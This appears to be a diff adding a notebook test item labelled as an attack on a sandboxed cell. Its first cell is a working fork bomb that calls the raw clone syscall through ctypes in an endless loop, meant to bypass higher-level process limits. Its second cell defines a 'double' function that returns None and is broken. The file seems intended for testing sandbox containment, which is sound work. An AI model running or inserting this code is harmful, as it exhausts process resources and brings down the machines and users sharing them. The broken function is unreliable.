@@ -1,0 +1,17 @@
+# /// attack
+# title = "Copies itself without end in a cell"
+# rows = ["N5", "X1"]
+# notebook = true
+# stopped_at = "jailed"
+# proven = false
+# perilous = "a fork bomb below the level that bounds it"
+# ///
+# %%
+import ctypes
+
+libc = ctypes.PyDLL(None)
+while True:
+    libc.syscall(56, ctypes.c_ulong(0x8000 | 17), None, None, None, None)
+# %%
+def double(x):
+    return None
